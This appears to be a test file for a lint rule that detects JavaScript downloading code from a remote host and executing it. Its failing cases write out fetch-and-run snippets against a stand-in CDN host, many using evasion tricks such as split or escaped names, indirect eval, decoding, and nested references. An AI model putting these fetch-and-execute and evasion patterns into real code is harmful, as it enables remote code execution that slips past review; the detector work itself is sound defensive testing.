import { ruleTester } from '../tester.ts';
import rule from '../../src/rules/no-remote-code.ts';

// Whatever runs text is looked for before data is followed to it: each way to run it has to be seen.
const LOAD = "const code = await (await fetch('https://cdn.parcel-metrics.example/x.js')).text();";

await ruleTester(rule, {
  valid: [
    `${LOAD} await new Promise((resolve) => setTimeout(resolve, 100)); setTimeout(() => show(code), 10);`,
    `${LOAD} const frame = document.createElement('iframe'); frame.title = code; document.body.append(frame);`,
    `${LOAD} export const length = code.length;`,
    `${LOAD} const worker = new Worker('/worker.js'); worker.postMessage(code);`,
  ].map((code) => ({ code })),
  invalid: [
    `${LOAD} function later(run) { setTimeout(run, 10); } later(code);`,
    `function later(run = null) { setInterval(run, 10); } ${LOAD} later(code);`,
    `${LOAD} const later = setTimeout.bind(null, code); later(1);`,
    `${LOAD} await new Promise((resolve) => { resolve = code; setTimeout(resolve, 10); });`,
    `${LOAD} function Promise(run) { run(code); } new Promise((resolve) => setTimeout(resolve, 1));`,
    `${LOAD} const element = document['create' + 'Element']('scr' + 'ipt'); element.text = code; document.head.append(element);`,
    `${LOAD} const element = document.createElement('SCRIPT'); element.textContent = code; document.head.append(element);`,
    `${LOAD} const element = document.create\\u0045lement('script'); element.textContent = code; document.head.append(element);`,
    `${LOAD} [code].forEach(eval);`,
    "fetch('https://cdn.parcel-metrics.example/x.js').then((response) => response.text()).then(eval);",
    `${LOAD} Reflect.apply(eval, null, [code]);`,
    `${LOAD} eval.call(null, code);`,
    `${LOAD} new Worker(URL.createObjectURL(new Blob([code])));`,
    `${LOAD} await import('data:text/javascript,' + encodeURIComponent(code));`,
    `import vm from 'node:vm'; ${LOAD} new vm.Script(code).runInThisContext();`,
    `${LOAD} (() => {}).constructor(code)();`,
    // decoded or unpacked on the way
    `${LOAD} eval(atob(code));`,
    `${LOAD} eval(unescape(code));`,
    `import zlib from 'node:zlib'; ${LOAD} new Function(zlib.gunzipSync(Buffer.from(code)).toString())();`,
    // deep in objects
    `const o = { a: { b: { c: { d: globalThis } } } }; ${LOAD} o.a.b.c.d.eval(code);`,
    `const o = { a: { b: { c: { d: { e: { f: { g: { h: eval } } } } } } } }; ${LOAD} o.a.b.c.d.e.f.g.h(code);`,
  ].map((code) => ({ code, errors: [{ messageId: 'download' }] })),
});
